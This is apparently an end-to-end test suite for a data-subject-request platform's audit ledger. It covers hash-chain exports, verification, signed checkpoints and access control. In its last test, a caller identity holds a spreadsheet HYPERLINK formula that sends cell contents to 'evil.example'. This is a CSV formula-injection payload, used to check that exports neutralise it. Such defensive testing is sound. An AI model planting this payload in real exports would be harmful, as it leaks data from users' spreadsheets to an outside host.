import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { promisify } from 'node:util';
import { SignJWT } from 'jose';
import { waitFor } from '@dsar/platform/testing';
import { CheckpointPublisher } from '@dsar/services/audit-ledger';
import type { TestSystem } from './systems';
import { type ApiResponse, ApiClient, intake } from './api-client';
import { KEYS } from './gateway-intake.scenarios';
import { servicePrincipal, signedInternalHeaders } from './internal-identity';

const run = promisify(execFile);
const ROOT = path.resolve(__dirname, '../../../..');

/** A script of docs/audit.md (the fenced block after `<!-- script: name -->`), as the docs give it to readers. */
async function docsScript(name: string): Promise<string> {
  const doc = await readFile(path.join(ROOT, 'docs/audit.md'), 'utf8');
  const match = new RegExp(`<!-- script: ${name} -->\\s*\`\`\`bash\\n([\\s\\S]*?)\`\`\``).exec(doc);
  if (!match) throw new Error(`docs/audit.md has no script ${name}`);
  return match[1];
}

/** Runs a docs script in a directory holding the given files; resolves with its output, rejects with it when it fails. */
async function runDocsScript(name: string, files: Record<string, string>, env: Record<string, string> = {}): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), 'dsar-audit-'));
  try {
    for (const [file, content] of Object.entries(files)) await writeFile(path.join(dir, file), content);
    const { stdout } = await run('bash', ['-c', await docsScript(name)], { cwd: dir, env: { ...process.env, ...env }, timeout: 120_000 });
    return stdout.trim();
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

/** The HS256 secret the systems of these scenarios take JWTs with (AUTH_JWT_SECRET), beside the test API keys. */
export const AUDIT_JWT_SECRET = randomBytes(32).toString('hex');

/** A JWT for a caller the test names: any `sub` and tenant, with the given roles. */
export function jwtFor(sub: string, tenantId: string, roles: string[]): Promise<string> {
  return new SignJWT({ tenant_id: tenantId, roles }).setProtectedHeader({ alg: 'HS256' }).setSubject(sub).setIssuedAt().setExpirationTime('10m').sign(new TextEncoder().encode(AUDIT_JWT_SECRET));
}

/** The cells of an RFC 4180 file, row by row, as a spreadsheet or a script reads them (quotes removed, `""` as `"`). */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') cell += text[++i];
      else quoted = false;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  return rows;
}

/**
 * Issue [audit] end to end through the gateway: a request walked through
 * every workflow step has every step in its chain, once; the export in all
 * its forms; verification; the scripts docs/audit.md gives readers, run on
 * what the API returned; and a signed checkpoint.
 */
export function auditScenarios(getSystem: () => TestSystem): void {
  let api: ApiClient;
  beforeAll(() => {
    api = new ApiClient(getSystem().gatewayUrl, KEYS.adminA.token);
  });

  async function ok(res: ApiResponse, status = 202): Promise<ApiResponse> {
    expect({ status: res.status, body: res.body }).toMatchObject({ status });
    return res;
  }

  /** A step owned by another service (verification, fulfilment-delivery), on lifecycle-clock's internal API. */
  async function internal(id: string, step: string): Promise<void> {
    const res = await fetch(`${getSystem().services.get('lifecycle-clock')!.url}/internal/v1/requests/${id}/lifecycle/${step}`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        ...signedInternalHeaders(
          getSystem().internalAuthKey,
          'POST',
          `${getSystem().services.get('lifecycle-clock')!.url}/internal/v1/requests/${id}/lifecycle/${step}`,
          servicePrincipal(KEYS.adminA.tenantId),
        ),
      },
      body: '{}',
    });
    expect(res.status).toBe(202);
  }

  /** Every workflow step, in an order the state machine allows; returns the request id. */
  async function walkedRequest(): Promise<string> {
    const id = (await ok(await api.post('/requests/capture', intake({ jurisdiction: 'DE' }, { receivedAt: getSystem().clock.daysAgo(3) })))).body.id as string;
    await ok(await api.post(`/requests/${id}/acknowledgements`, { channel: 'email' }));
    await ok(await api.post(`/requests/${id}/clarifications/request`, { message: 'Which account do you mean?' }));
    await ok(await api.post(`/requests/${id}/clarifications/receive`, { message: 'The shop account.' }));
    await ok(await api.post(`/requests/${id}/extensions`, { justification: 'complexity', reason: 'Jane Roe asked for 40 GB of scans' }));
    await ok(await api.call('PUT', `/api/v1/requests/${id}/requestor`, { json: { type: 'authorized_agent', name: 'Agent Smith' } }), 202);
    await ok(await api.post(`/requests/${id}/authority/submit`, { evidenceArtifacts: [{ type: 'power_of_attorney', reference: 'dms://poa/1' }], status: 'submitted' }));
    await ok(await api.post(`/requests/${id}/authority/approve`, {}));
    await internal(id, 'verification-requested');
    await internal(id, 'verification-approved');
    await internal(id, 'fulfilled');
    const appeal = await ok(await api.post(`/requests/${id}/appeals`, { message: 'Some data is missing.' }));
    await ok(await api.post(`/requests/${id}/appeals/${appeal.body.appealId}/decide`, { decision: 'approve' }));
    await internal(id, 'fulfilled');
    await ok(await api.post(`/requests/${id}/closures`, {}));
    return id;
  }

  describe('a request walked through every step', () => {
    let id: string;
    let exported: ApiResponse;
    beforeAll(async () => {
      id = await walkedRequest();
      exported = await api.get(`/requests/${id}/audit/export`);
    });

    it('has one chain entry per domain event, in order, the same events as its timeline', async () => {
      expect(exported.status).toBe(202);
      const { events, rootHash, headSequence, format, requestId, purgedPrefix } = exported.body;
      expect({ format, requestId, purgedPrefix }).toEqual({ format: 'jsonl', requestId: id, purgedPrefix: null });
      expect(events.map((e: { sequence: number }) => e.sequence)).toEqual(events.map((_: unknown, i: number) => i + 1));
      expect(headSequence).toBe(events.length);
      expect(rootHash).toBe(events.at(-1).hash);
      for (let i = 1; i < events.length; i++) expect(events[i].prevHash).toBe(events[i - 1].hash);

      const types = events.map((e: { eventType: string }) => e.eventType.replace(/^dsar\.request\./, '').replace(/\.v1$/, ''));
      for (const step of [
        'created',
        'acknowledged',
        'clarification_requested',
        'clock_paused',
        'clarification_received',
        'clock_resumed',
        'deadline_extended',
        'requestor_replaced',
        'authority_submitted',
        'authority_approved',
        'verification_requested',
        'verified',
        'fulfilled',
        'appeal_submitted',
        'appeal_decided',
        'reopened',
        'closed',
      ]) {
        expect(types).toContain(step);
      }
      expect(new Set(events.map((e: { eventId: string }) => e.eventId)).size).toBe(events.length);

      const timeline = (await api.get(`/requests/${id}/timeline`)).body.events;
      expect(timeline.map((e: { id: string }) => e.id)).toEqual(events.map((e: { eventId: string }) => e.eventId));
      expect(timeline.map((e: { payload: unknown }) => e.payload)).toEqual(events.map((e: { payload: unknown }) => e.payload));
    });

    it("names who acted, and keeps the extension's free text only as a salted hash", () => {
      const { events } = exported.body;
      const extension = events.find((e: { eventType: string }) => e.eventType === 'dsar.request.deadline_extended.v1');
      expect(extension.actor).toMatch(/^key:/);
      expect(extension.payload).toMatchObject({ justification: 'complexity', reason: expect.stringMatching(/^hmac-sha256:[0-9a-f]{64}$/) });
      expect(JSON.stringify(events)).not.toContain('Jane Roe');
      expect(events[0]).toMatchObject({ eventType: 'dsar.request.created.v1', actor: 'lifecycle-clock', source: '/dsar/lifecycle-clock' });
    });

    it('verifies at the head and at any earlier entry', async () => {
      const { events, rootHash, headSequence } = exported.body;
      const head = await ok(await api.as(KEYS.auditorA.token).post(`/requests/${id}/audit/verify`, { hash: rootHash, prevHash: events.at(-2).hash, sequence: headSequence }));
      expect(head.body).toEqual({ verified: true, status: 'verified', mismatches: [], sequence: headSequence, checkedEntries: headSequence });
      const third = await ok(await api.post(`/requests/${id}/audit/verify`, { hash: events[2].hash, sequence: 3 }));
      expect(third.body).toMatchObject({ verified: true, checkedEntries: 3 });
      const wrong = await ok(await api.post(`/requests/${id}/audit/verify`, { hash: events[3].hash, sequence: 3 }));
      expect(wrong.body).toMatchObject({
        verified: false,
        status: 'hash_mismatch',
        mismatches: [{ eventId: events[2].eventId, kind: 'claimed_hash', expectedHash: events[3].hash, actualHash: events[2].hash }],
      });
    });

    it('streams the chain as JSON Lines that the script in docs/audit.md checks with jq and openssl', async () => {
      const res = await fetch(`${api.baseUrl}/api/v1/requests/${id}/audit/export`, { headers: { authorization: `Bearer ${KEYS.auditorA.token}`, accept: 'application/x-ndjson' } });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="audit-${id}.jsonl"`);
      expect(res.headers.get('x-audit-root-hash')).toBe(exported.body.rootHash);
      expect(res.headers.get('x-audit-head-sequence')).toBe(String(exported.body.headSequence));
      const file = await res.text();
      const lines = file.trimEnd().split('\n');
      expect(lines.map((l) => JSON.parse(l))).toEqual(exported.body.events);

      const out = await runDocsScript('verify-chain', { 'audit.jsonl': file });
      expect(out).toBe(`chain OK: ${lines.length} entries, head ${exported.body.rootHash}`);

      // The same script refuses a file with one entry changed, naming it.
      const forged = lines.map((l, i) => (i === 4 ? l.replace('"actor":"', '"actor":"x') : l)).join('\n');
      await expect(runDocsScript('verify-chain', { 'audit.jsonl': `${forged}\n` })).rejects.toMatchObject({ stdout: `entry 5 (${exported.body.events[4].eventId}): content does not give its hash\n` });
    });

    it('gives CSV in the JSON body (content) and as a streamed text/csv file, with the same rows', async () => {
      const json = await ok(await api.get(`/requests/${id}/audit/export?format=csv`));
      expect(json.body.format).toBe('csv');
      expect(json.body.events).toEqual(exported.body.events);
      const rows = (json.body.content as string).split('\r\n');
      expect(rows[0]).toBe('sequence,eventId,eventType,occurredAt,recordedAt,actor,source,tenantId,requestId,payload,prevHash,hash');
      expect(rows).toHaveLength(exported.body.events.length + 2); // header, one row each, and the empty string after the last CRLF
      expect(rows[1].startsWith(`1,${exported.body.events[0].eventId},dsar.request.created.v1,`)).toBe(true);
      expect(rows[1].endsWith(`,${exported.body.events[0].prevHash},${exported.body.events[0].hash}`)).toBe(true);

      const file = await api.get(`/requests/${id}/audit/export`, { headers: { accept: 'text/csv' } });
      expect(file.status).toBe(200);
      expect(file.headers.get('content-type')).toMatch(/^text\/csv/);
      expect(file.body).toBe(json.body.content);
    });
  });

  describe('bad input changes nothing and says why', () => {
    let id: string;
    beforeAll(async () => {
      id = (await ok(await api.post('/requests/capture', intake({ jurisdiction: 'DE' }, { receivedAt: getSystem().clock.daysAgo(1) })))).body.id as string;
    });

    it('verify: a bad body is a 400 naming the fields; a past-the-head sequence is sequence_not_found', async () => {
      const bad = await api.post(`/requests/${id}/audit/verify`, { hash: 'abc', sequence: 0, extra: true });
      expect(bad.status).toBe(400);
      expect(bad.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(bad.body.code).toBe('SVC-BE-1102');
      expect(bad.body.errors.map((e: { field: string }) => e.field)).toEqual(expect.arrayContaining(['hash', 'sequence']));
      const notJson = await api.call('POST', `/api/v1/requests/${id}/audit/verify`, { raw: '{"hash":', headers: { 'content-type': 'application/json' } });
      expect(notJson.body.code).toBe('SVC-BE-1101');
      const past = await ok(await api.post(`/requests/${id}/audit/verify`, { hash: `sha256:${'a'.repeat(64)}`, sequence: 99 }));
      expect(past.body).toMatchObject({ verified: false, status: 'sequence_not_found' });
    });

    it("an unknown request, or another tenant's, is a 404; the export needs audit:export", async () => {
      const unknown = '00000000-0000-4000-8000-000000000000';
      expect((await api.post(`/requests/${unknown}/audit/verify`, { hash: `sha256:${'a'.repeat(64)}`, sequence: 1 })).status).toBe(404);
      expect((await api.get(`/requests/${unknown}/audit/export`)).status).toBe(404);
      expect((await api.as(KEYS.operatorB.token).get(`/requests/${id}/audit/export`)).status).toBe(404);
      const intakeOnly = await api.as(KEYS.intakeA.token).get(`/requests/${id}/audit/export`);
      expect(intakeOnly.status).toBe(403);
      expect(intakeOnly.body.code).toBe('SVC-BE-1302');
    });

    it('export: an unknown format, or one that disagrees with Accept, is a 400', async () => {
      const unknownFormat = await api.get(`/requests/${id}/audit/export?format=xml`);
      expect(unknownFormat.status).toBe(400);
      expect(unknownFormat.body.errors).toEqual([expect.objectContaining({ field: 'format' })]);
      const clash = await api.get(`/requests/${id}/audit/export?format=csv`, { headers: { accept: 'application/x-ndjson' } });
      expect(clash.status).toBe(400);
      expect(clash.body.errors).toEqual([expect.objectContaining({ field: 'format' })]);
    });
  });

  describe('signed checkpoints', () => {
    it("covers the tenant's chain heads, and the script in docs/audit.md checks its key, signature and root", async () => {
      const id = await walkedRequest();
      const head = (await api.get(`/requests/${id}/audit/export`)).body;
      const publisher = getSystem().services.get('audit-ledger')!.app.get(CheckpointPublisher);
      const made = await publisher.run();
      const ours = made.filter((c) => c.tenantId === KEYS.adminA.tenantId);
      expect(ours.length).toBeGreaterThan(0);

      const listed = await ok(await api.as(KEYS.auditorA.token).get('/audit/checkpoints?limit=5'), 200);
      expect(listed.body[0]).toMatchObject({ tenantId: 'tenant-a', checkpointId: ours.at(-1)!.checkpointId, algorithm: 'ed25519' });
      const containing = [];
      for (const c of ours) {
        const detail = await ok(await api.get(`/audit/checkpoints/${c.checkpointId}`), 200);
        if (detail.body.leaves.some((l: { requestId: string }) => l.requestId === id)) containing.push(detail.body);
      }
      expect(containing).toHaveLength(1);
      const checkpoint = containing[0];
      expect(checkpoint.leaves).toContainEqual({ requestId: id, sequence: head.headSequence, hash: head.rootHash });

      const out = await runDocsScript('verify-checkpoint', { 'checkpoint.json': JSON.stringify(checkpoint) }, { TRUSTED_KEY_ID: publisher.keyId! });
      expect(out).toBe(`checkpoint ${checkpoint.number} OK: ${checkpoint.leafCount} leaves, root ${checkpoint.root}`);
      // A changed statement, a changed leaf, or a key that is not the trusted one fails the same script.
      const trusted = { TRUSTED_KEY_ID: publisher.keyId! };
      await expect(runDocsScript('verify-checkpoint', { 'checkpoint.json': JSON.stringify({ ...checkpoint, leafCount: checkpoint.leafCount + 1 }) }, trusted)).rejects.toMatchObject({
        stdout: 'bad signature\n',
      });
      const leaves = checkpoint.leaves.map((l: { sequence: number }, i: number) => (i === 0 ? { ...l, sequence: l.sequence + 1 } : l));
      await expect(runDocsScript('verify-checkpoint', { 'checkpoint.json': JSON.stringify({ ...checkpoint, leaves }) }, trusted)).rejects.toMatchObject({ stdout: 'root does not match the leaves\n' });
      await expect(runDocsScript('verify-checkpoint', { 'checkpoint.json': JSON.stringify(checkpoint) }, { TRUSTED_KEY_ID: `sha256:${'0'.repeat(64)}` })).rejects.toMatchObject({
        stdout: 'not the trusted key\n',
      });

      expect((await api.get('/audit/checkpoints/00000000-0000-4000-8000-000000000000')).status).toBe(404);
      expect((await api.as(KEYS.workspaceA.token).get('/audit/checkpoints')).status).toBe(403);
      expect((await api.as(KEYS.intakeA.token).get('/audit/checkpoints')).status).toBe(403);
    });
  });

  describe('the CSV export opens in a spreadsheet as text', () => {
    it("a cell that could start a formula (callers whose JWT sub or tenant begins with =, +, -, @) starts with a quote, and reads back to the chain's value", async () => {
      const tenantId = '@csv-tenant';
      const subjects = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(1,2)'];
      const callers = await Promise.all(subjects.map(async (sub) => api.as(await jwtFor(sub, tenantId, ['admin']))));
      const id = (await ok(await callers[0].post('/requests/capture', intake({ jurisdiction: 'DE' }, { receivedAt: getSystem().clock.daysAgo(1) })))).body.id as string;
      await ok(await callers[1].post(`/requests/${id}/acknowledgements`, { channel: 'email' }));
      await ok(await callers[2].post(`/requests/${id}/clarifications/request`, { message: 'Which account do you mean?' }));
      await ok(await callers[3].post(`/requests/${id}/clarifications/receive`, { message: 'The shop account.' }));
      const events = await waitFor(
        'the steps of the formula callers on the chain',
        async () => {
          const res = await ok(await callers[0].get(`/requests/${id}/audit/export`));
          const all = res.body.events as Array<Record<string, unknown>>;
          return subjects.slice(1).every((sub) => all.some((e) => String(e.actor).includes(sub))) ? all : undefined;
        },
        { timeoutMs: 20_000 },
      );

      const csv = await ok(await callers[0].get(`/requests/${id}/audit/export?format=csv`));
      const [header, ...rows] = csvCells(csv.body.content as string);
      expect(header).toEqual(['sequence', 'eventId', 'eventType', 'occurredAt', 'recordedAt', 'actor', 'source', 'tenantId', 'requestId', 'payload', 'prevHash', 'hash']);
      expect(rows.length).toBeGreaterThanOrEqual(events.length);
      for (const row of rows) for (const cell of row) expect({ cell, formula: /^[=+\-@\t\r]/.test(cell) }).toEqual({ cell, formula: false });
      // Reading back, as docs/audit.md says: a cell that starts with a quote held the rest of it.
      const readBack = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);
      rows.slice(0, events.length).forEach((row, i) => {
        const e = events[i];
        const values = row.map(readBack);
        expect({ ...Object.fromEntries(header.map((h, j) => [h, values[j]])), payload: JSON.parse(values[9]) }).toEqual({
          ...Object.fromEntries(header.map((h) => [h, String(e[h])])),
          payload: e.payload,
        });
      });
      expect(csv.body.content).toContain(`,"'${tenantId}",`);

      const file = await callers[0].get(`/requests/${id}/audit/export`, { headers: { accept: 'text/csv' } });
      expect(file.status).toBe(200);
      expect(file.body).toBe(csv.body.content);
    });
  });
}
